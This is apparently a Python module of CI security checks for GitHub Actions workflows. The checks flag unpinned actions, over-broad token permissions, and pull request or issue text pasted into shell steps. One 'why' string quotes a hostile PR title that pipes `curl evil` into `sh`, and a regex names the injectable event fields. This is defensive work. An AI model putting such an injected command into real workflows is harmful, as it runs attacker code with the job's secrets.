"""What CI may do, and what it runs that others can change: few rights, fixed actions, no strangers' text in a shell."""

from __future__ import annotations

import re
from collections.abc import Iterator

from readiness.control import Problem, control
from readiness.facts import Facts
from readiness.facts.github import events_of
from readiness.facts.repository import File
from readiness.facts.resources import fields, line_of, mappings

HARDENING = "https://docs.github.com/en/actions/security-for-github-actions/security-guides"
COMMIT = re.compile(r"[0-9a-f]{40}$")
OWN = ("actions/", "github/")
# Text that whoever opens a pull request or an issue chooses.
STRANGERS = re.compile(
    r"\$\{\{[^}]*\bgithub\.(event\.(issue|pull_request|comment|review|discussion)\.(title|body|head\.(ref|label))|head_ref)"
)


def workflows(facts: Facts) -> Iterator[File]:
    return facts.repository.role("ci-github")


@control(
    id="S4.actions-fixed",
    title="Every action is fixed: those of others by commit, GitHub's own at least by a tag",
    why="a tag or branch of somebody else's action can be moved to code that reads all secrets of the job",
    remedy="uses: OWNER/ACTION@<40 digits of the commit> # v1.2.3",
    severity="high",
    kind="repository",
    sources=(HARDENING, "OpenSSF Scorecard: Pinned-Dependencies"),
    subjects=workflows,
)
def actions_fixed(file: File, facts: Facts) -> Iterator[Problem]:
    for number, line in enumerate(file.lines, 1):
        match = re.match(r"\s*-?\s*uses:\s*[\"']?([^\s\"'#]+)", line)
        if not match or match[1].startswith(("./", "docker://")):
            continue
        name, _, version = match[1].partition("@")
        tag = re.match(r"v?\d", version) is not None
        if not COMMIT.match(version) and not (tag and name.startswith(OWN)):
            what = "the tag" if tag else "the branch" if version else "no version at all of"
            yield Problem(f"{name} follows {what} {version}".rstrip(), number)


@control(
    id="S1.ci-few-rights",
    title="Workflows get few rights, and say which",
    why="a job that does not say so may get a token that writes to the repository, and so does every action in it",
    remedy="permissions: {contents: read}  (at the top of the workflow; more for the one job that needs it)",
    severity="medium",
    kind="repository",
    sources=(HARDENING, "OpenSSF Scorecard: Token-Permissions"),
    subjects=workflows,
)
def ci_few_rights(file: File, facts: Facts) -> Iterator[Problem]:
    for workflow in file.yaml:
        top = workflow.get("permissions")
        if top == "write-all":
            yield Problem("permissions: write-all gives every job every right", line_of(workflow))
        for name, job in fields(workflow, "jobs").items():
            own = job.get("permissions")
            if own == "write-all":
                yield Problem(f"job {name} has every right", line_of(job))
            elif own is None and top is None:
                yield Problem(f"job {name} does not say what its token may do", line_of(job))


@control(
    id="S1.ci-no-strangers",
    title="No workflow runs what a stranger wrote with the repository's rights",
    why="a title such as a`curl evil|sh` is run by the shell it is pasted into, with the secrets of the job",
    remedy='env: {TITLE: ${{ github.event.pull_request.title }}}, then "$TITLE" in the script',
    severity="critical",
    kind="repository",
    sources=(HARDENING, "OpenSSF Scorecard: Dangerous-Workflow", "OWASP CI/CD-SEC-4"),
    subjects=workflows,
)
def ci_no_strangers(file: File, facts: Facts) -> Iterator[Problem]:
    for workflow in file.yaml:
        privileged = bool(events_of(workflow) & {"pull_request_target", "workflow_run"})
        for name, job in fields(workflow, "jobs").items():
            for step in mappings(job, "steps"):
                line = line_of(step)
                if found := STRANGERS.search(str(step.get("run"))):
                    yield Problem(f"job {name} pastes {found[0]}…}}}} into a shell", line)
                head = "head" in str(fields(step, "with").get("ref"))
                if privileged and "actions/checkout" in str(step.get("uses")) and head:
                    yield Problem(f"job {name} checks out a stranger's commit with the repository's rights", line)


CONTROLS = (actions_fixed, ci_few_rights, ci_no_strangers)
